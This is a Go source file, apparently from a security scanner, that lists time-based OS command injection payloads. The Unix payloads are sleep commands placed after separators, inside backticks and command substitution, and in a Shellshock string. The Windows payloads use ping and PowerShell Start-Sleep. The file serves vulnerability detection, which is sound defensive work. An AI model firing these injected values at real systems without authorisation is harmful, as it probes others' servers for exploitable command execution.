package payloads

// commandDelayTemplates are OS command sleep payloads, each already prefixed with its separator.
var commandDelayTemplates = []DelayTemplate{
	{Template: ";sleep %d", Platform: "unix", Description: "Unix sleep after ';'"},
	{Template: "&&sleep %d", Platform: "unix", Description: "Unix sleep after '&&'"},
	{Template: "|sleep %d", Platform: "unix", Description: "Unix sleep piped"},
	{Template: "`sleep %d`", Platform: "unix", Description: "Unix sleep in backticks"},
	{Template: "$(sleep %d)", Platform: "unix", Description: "Unix sleep in command substitution"},
	{Template: "\nsleep %d\n", Platform: "unix", Description: "Unix sleep on its own line"},
	{Template: "() { :;}; /bin/sleep %d", Platform: "unix", Description: "Shellshock sleep"},
	// ping sends one echo per second and the first one is immediate.
	{Template: "&ping -n %d 127.0.0.1", Offset: 1, Platform: "windows", Description: "Windows ping after '&'"},
	{Template: "|ping -n %d 127.0.0.1", Offset: 1, Platform: "windows", Description: "Windows ping piped"},
	{Template: "&powershell -Command \"Start-Sleep -Seconds %d\"", Platform: "windows", Description: "Windows PowerShell Start-Sleep"},
}

// CommandDelays returns the OS command injection delay provider.
func CommandDelays() DelayProvider {
	return templateProvider{
		name:      "cmdinjection",
		templates: commandDelayTemplates,
		aliases: map[string][]string{
			"linux":   {"unix"},
			"darwin":  {"unix"},
			"bsd":     {"unix"},
			"win":     {"windows"},
			"iis":     {"windows"},
			"asp.net": {"windows"},
		},
	}
}
